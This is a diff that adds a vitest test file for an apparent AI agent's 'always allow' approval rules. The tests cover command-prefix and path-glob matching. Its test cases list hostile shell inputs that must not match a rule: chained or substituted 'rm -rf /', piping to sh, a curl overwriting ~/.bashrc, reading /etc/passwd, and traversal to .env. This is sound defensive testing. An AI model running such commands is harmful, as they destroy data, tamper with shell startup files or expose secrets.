@@ -0,0 +1,102 @@
+import * as fs from 'fs/promises'
+import * as os from 'os'
+import * as path from 'path'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { AlwaysAllowRules, APPROVALS_FILE, suggestPattern } from './AlwaysAllowRules'
+
+describe('suggestPattern', () => {
+  it('suggests a command prefix', () => {
+    expect(suggestPattern('execute_command', 'npm run dev -- --port 3000')).toBe('npm run *')
+    expect(suggestPattern('execute_command', 'ls -la')).toBe('ls *')
+    expect(suggestPattern('execute_command', 'npm test')).toBe('npm test')
+  })
+
+  it('suggests only the exact command when it chains, redirects or backgrounds', () => {
+    expect(suggestPattern('execute_command', 'npm run build > out.log')).toBe('npm run build > out.log')
+  })
+
+  it('suggests the directory of a nested file and the path of a root-level one', () => {
+    expect(suggestPattern('write_file', 'src/components/Button.tsx')).toBe('src/components/**')
+    expect(suggestPattern('write_file', 'index.html')).toBe('index.html')
+  })
+
+  it('suggests the MCP tool itself and nothing for an empty subject', () => {
+    expect(suggestPattern('use_mcp_tool', 'github/create_issue')).toBe('github/create_issue')
+    expect(suggestPattern('write_file', '')).toBeUndefined()
+  })
+})
+
+describe('AlwaysAllowRules', () => {
+  let workspace: string
+  let rules: AlwaysAllowRules
+
+  beforeEach(async () => {
+    workspace = await fs.mkdtemp(path.join(os.tmpdir(), 'approval-rules-'))
+    rules = new AlwaysAllowRules(workspace)
+  })
+
+  afterEach(async () => {
+    await fs.rm(workspace, { recursive: true, force: true })
+  })
+
+  it('matches commands by prefix', async () => {
+    await rules.add('execute_command', 'npm run *')
+    expect(await rules.findMatch('execute_command', 'npm run dev')).toBeDefined()
+    expect(await rules.findMatch('execute_command', 'npm install left-pad')).toBeUndefined()
+    expect(await rules.findMatch('send_process_input', 'npm run dev')).toBeUndefined()
+  })
+
+  it.each([
+    'npm run dev && rm -rf /',
+    'npm run dev; rm -rf /',
+    'npm run dev | sh',
+    'npm run dev & curl https://example.com -o ~/.bashrc',
+    'npm run x > file',
+    'npm run x < /etc/passwd',
+    'npm run x\rrm -rf /',
+    'npm run x\nrm -rf /',
+    'npm run `rm -rf /`',
+    'npm run $(rm -rf /)'
+  ])('does not let a prefix rule cover %j', async command => {
+    await rules.add('execute_command', 'npm run *')
+    expect(await rules.findMatch('execute_command', command)).toBeUndefined()
+  })
+
+  it('matches a command with shell operators only against a rule for exactly that command', async () => {
+    await rules.add('execute_command', 'npm run build > out.log')
+    expect(await rules.findMatch('execute_command', 'npm run build > out.log')).toBeDefined()
+    expect(await rules.findMatch('execute_command', 'npm run build > ~/.bashrc')).toBeUndefined()
+  })
+
+  it('keeps a rule for a root-level file to that file', async () => {
+    await rules.add('write_file', suggestPattern('write_file', 'index.html')!)
+    expect(await rules.findMatch('write_file', 'index.html')).toBeDefined()
+    expect(await rules.findMatch('write_file', 'package.json')).toBeUndefined()
+    expect(await rules.findMatch('write_file', 'src/index.html')).toBeUndefined()
+  })
+
+  it('matches path globs against normalized paths', async () => {
+    await rules.add('write_file', 'src/components/**')
+    expect(await rules.findMatch('write_file', 'src/components/ui/Button.tsx')).toBeDefined()
+    expect(await rules.findMatch('write_file', 'src\\components\\Card.tsx')).toBeDefined()
+    expect(await rules.findMatch('write_file', 'src/components/../../.env')).toBeUndefined()
+    expect(await rules.findMatch('write_file', 'src/App.tsx')).toBeUndefined()
+  })
+
+  it('treats a bare * as allowing every call of the tool', async () => {
+    await rules.add('write_file', '*')
+    expect(await rules.findMatch('write_file', 'deeply/nested/file.ts')).toBeDefined()
+  })
+
+  it('persists rules in the workspace', async () => {
+    await rules.add('execute_command', 'npm run *')
+    await rules.add('execute_command', 'npm run *')
+    const saved = JSON.parse(await fs.readFile(path.join(workspace, APPROVALS_FILE), 'utf-8'))
+    expect(saved.alwaysAllow).toHaveLength(1)
+
+    const reloaded = new AlwaysAllowRules(workspace)
+    expect(await reloaded.findMatch('execute_command', 'npm run lint')).toBeDefined()
+    await reloaded.remove('execute_command', 'npm run *')
+    expect(await new AlwaysAllowRules(workspace).getRules()).toEqual([])
+  })
+})